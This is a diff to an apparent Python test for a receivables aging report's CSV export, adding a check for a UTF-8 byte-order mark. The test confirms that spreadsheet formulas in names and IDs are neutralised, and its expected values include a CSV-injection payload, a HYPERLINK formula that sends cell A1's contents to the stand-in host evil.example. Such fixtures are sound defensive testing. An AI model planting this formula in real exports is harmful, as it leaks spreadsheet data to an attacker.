@@ -61,7 +61,8 @@ def test_aging_csv_neutralises_formulas_from_names_collectors_and_ids(
     imported(db, "receivables", write(tmp_path, "r.csv", RECEIVABLES))
     result = run("report", "aging", "--at", "2026-03-02", "--format", "csv", db=db)
     assert result.returncode == 0, result.stderr
-    rows = {r["invoice_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
+    assert result.stdout.startswith("\ufeff")  # UTF-8 with BOM, for Excel (issue 13)
+    rows = {r["invoice_id"]: r for r in csv.DictReader(io.StringIO(result.stdout[1:]))}
     assert set(rows) == {"'=1+1", "INV-2", "INV-3"}
     first = rows["'=1+1"]
     assert first["customer_name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Pay")'
